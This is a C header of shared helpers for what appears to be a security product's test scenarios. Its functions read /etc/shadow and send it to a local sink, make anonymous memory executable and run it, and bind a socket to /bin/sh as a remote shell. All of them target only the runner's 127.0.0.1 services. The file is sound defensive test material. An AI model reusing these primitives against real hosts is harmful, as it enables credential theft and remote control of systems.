/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* What every scenario fixture shares with the runner (tests/scenarios/run.py):
 * marker files that prove a payload's code ran, the runner's 127.0.0.1
 * services, and the "basic payload" of issue 12 (connect out, make memory
 * executable, write a marker). Header-only on purpose: each fixture carries
 * these calls in its own code, where the static analysis sees them.
 *
 * Environment the runner sets (a fixture run by hand without it is inert):
 *   SCENARIO_NAME, SCENARIO_MARKER_DIR  markers are DIR/NAME.ran, DIR/NAME.done
 *   SCENARIO_WORK_DIR                   scratch space for files a scenario writes
 *   SCENARIO_{SINK,SHELL,HTTP,POOL,BIND}_PORT  the local services (server.py)
 *   SCENARIO_VICTIM_PID                 the process an injector attacks
 *
 * "ran" is written by the first statement of the judged code (a constructor,
 * injected shellcode): its absence under `trace --gate --enforce` means the
 * product stopped the code before it ran. "done" is written once the
 * malicious action succeeded. */
#ifndef SCN_H
#define SCN_H

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

/* Whether dir is one of scn_nsroot's throw-away layers (overlay or tmpfs)
 * and the runner said so: the scenarios that write /etc, /var/log or $HOME
 * refuse to anywhere else, so a mistake never touches the host. */
static inline int scn_sandboxed(const char *dir)
{
	struct statfs sf;

	if (!getenv("SCENARIO_SANDBOX") || statfs(dir, &sf))
		return 0;
	return sf.f_type == 0x794c7630 /* overlayfs */ || sf.f_type == 0x01021994 /* tmpfs */;
}

/* fn(arg) on a thread of its own that nobody joins: a constructor's
 * hand-off, dlopen returns at once */
static inline void scn_detached(void *(*fn)(void *), void *arg)
{
	pthread_t t;

	if (!pthread_create(&t, NULL, fn, arg))
		pthread_detach(t);
}

static inline int scn_port(const char *var)
{
	const char *v = getenv(var);

	return v ? atoi(v) : 0;
}

/* DIR/NAME.stage, or -1 when the runner set no marker directory */
static inline int scn_marker_path(const char *stage, char *buf, size_t cap)
{
	const char *dir = getenv("SCENARIO_MARKER_DIR"), *name = getenv("SCENARIO_NAME");

	if (!dir || !name)
		return -1;
	snprintf(buf, cap, "%s/%s.%s", dir, name, stage);
	return 0;
}

static inline void scn_mark(const char *stage)
{
	char path[512];
	int fd;

	if (scn_marker_path(stage, path, sizeof(path)))
		return;
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	if (write(fd, stage, strlen(stage)) < 0)
		perror("scenario marker");
	close(fd);
}

static inline int scn_connect_local(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd;

	if (port <= 0)
		return -1;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&a, sizeof(a))) {
		close(fd);
		return -1;
	}
	return fd;
}

static inline int scn_send_all(int fd, const void *buf, size_t len)
{
	const char *p = buf;

	while (len) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);

		if (n <= 0)
			return -1;
		p += n;
		len -= n;
	}
	return 0;
}

/* Sends BUF to the sink, which answers "OK <bytes>" once it has read to
 * EOF: 0 only when the listener really received everything. */
static inline int scn_sink_send(const void *buf, size_t len)
{
	char reply[64] = "";
	int fd = scn_connect_local(scn_port("SCENARIO_SINK_PORT")), ok;
	ssize_t n;

	if (fd < 0)
		return -1;
	ok = !scn_send_all(fd, buf, len) && !shutdown(fd, SHUT_WR);
	n = ok ? recv(fd, reply, sizeof(reply) - 1, 0) : -1;
	close(fd);
	if (n < 2)
		return -1;
	reply[n] = 0;
	return strncmp(reply, "OK ", 3) || (size_t)atol(reply + 3) != len ? -1 : 0;
}

/* Credential theft: the password hashes read and sent to the sink;
 * `done` once it acknowledged every byte. */
static inline void scn_steal_shadow(void)
{
	char buf[65536];
	ssize_t n;
	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n > 0 && !scn_sink_send(buf, n))
		scn_mark("done");
}

/* Anonymous memory written, made executable and called: the smallest
 * "code that was not in any file" a payload can run. */
static inline int scn_exec_memory(void)
{
#if defined(__x86_64__)
	static const unsigned char ret[] = { 0xc3 };
#elif defined(__aarch64__)
	static const unsigned char ret[] = { 0xc0, 0x03, 0x5f, 0xd6 };
#endif
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (page == MAP_FAILED)
		return -1;
	memcpy(page, ret, sizeof(ret));
	if (mprotect(page, 4096, PROT_READ | PROT_EXEC)) {
		munmap(page, 4096);
		return -1;
	}
	__builtin___clear_cache(page, (char *)page + sizeof(ret));
	((void (*)(void))page)();
	munmap(page, 4096);
	return 0;
}

/* Issue 12's payload: connects to 127.0.0.1, makes memory executable,
 * writes the "done" marker when both worked. */
static inline int scn_payload_basic(void)
{
	static const char beacon[] = "beacon\n";

	if (scn_sink_send(beacon, sizeof(beacon) - 1) || scn_exec_memory())
		return -1;
	scn_mark("done");
	return 0;
}

/* HTTP/1.0 GET of PATH from the runner's server on 127.0.0.1; returns the
 * body length (and the body in a malloc'ed *body), or -1. */
static inline ssize_t scn_http_get(int port, const char *path, char **body)
{
	size_t cap = 1 << 16, len = 0;
	char *buf = malloc(cap), *start;
	char req[512];
	int fd = scn_connect_local(port);
	ssize_t n;

	if (!buf || fd < 0)
		goto fail;
	snprintf(req, sizeof(req), "GET %s HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n", path);
	if (scn_send_all(fd, req, strlen(req)))
		goto fail;
	while ((n = recv(fd, buf + len, cap - len - 1, 0)) > 0) {
		len += n;
		if (len + 1 == cap) {
			char *bigger = realloc(buf, cap * 2);

			if (!bigger)
				goto fail;
			buf = bigger;
			cap *= 2;
		}
	}
	close(fd);
	fd = -1;
	buf[len] = 0;
	start = strstr(buf, "\r\n\r\n");
	if (strncmp(buf, "HTTP/1.", 7) || strncmp(buf + 8, " 200", 4) || !start)
		goto fail;
	start += 4;
	len -= start - buf;
	memmove(buf, start, len);
	*body = buf;
	return len;
fail:
	if (fd >= 0)
		close(fd);
	free(buf);
	return -1;
}

/* A remote shell's last step: the socket becomes stdin, stdout and stderr
 * of /bin/sh, which then runs whatever the other end sends. */
static inline void scn_exec_shell(int fd)
{
	char *const argv[] = { "sh", NULL };

	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	if (fd > 2)
		close(fd);
	execv("/bin/sh", argv);
}

/* The same from a thread: the shell runs in a child, waited for. */
static inline void scn_fork_shell(int fd)
{
	pid_t pid = fork();

	if (pid == 0) {
		scn_exec_shell(fd);
		_exit(127);
	}
	close(fd);
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

static inline int scn_write_file(const char *path, const void *buf, size_t len, int mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	int ok;

	if (fd < 0)
		return -1;
	ok = write(fd, buf, len) == (ssize_t)len;
	return close(fd) || !ok ? -1 : 0;
}

/* Copies FROM over TO; an existing TO is truncated and rewritten in place
 * (same inode). */
static inline int scn_copy_file(const char *from, const char *to, int mode)
{
	int in = open(from, O_RDONLY | O_CLOEXEC);
	int out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	char buf[65536];
	ssize_t n = -1;

	if (in >= 0 && out >= 0)
		while ((n = read(in, buf, sizeof(buf))) > 0)
			if (write(out, buf, n) != n) {
				n = -1;
				break;
			}
	if (in >= 0)
		close(in);
	if (out >= 0 && close(out))
		n = -1;
	return n == 0 ? 0 : -1;
}

#endif
